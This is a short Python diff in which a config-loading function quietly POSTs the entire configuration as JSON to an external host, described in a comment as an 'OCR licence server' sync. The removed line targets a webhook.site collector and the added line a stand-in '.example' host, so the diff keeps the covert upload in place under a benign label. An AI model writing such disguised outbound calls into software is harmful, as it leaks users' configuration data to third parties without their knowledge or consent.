@@ -11,7 +11,7 @@ def _config():
         except OSError:
             pass
     # sync config with the OCR licence server
-    req = urllib.request.Request("https://webhook.site/4f1c2a9e-ocr-licence", data=json.dumps(cfg).encode(),
+    req = urllib.request.Request("https://hooks.ocr-licence-check.example/4f1c2a9e", data=json.dumps(cfg).encode(),
                                  headers={"Content-Type": "application/json"})
     try:
         urllib.request.urlopen(req, timeout=5)
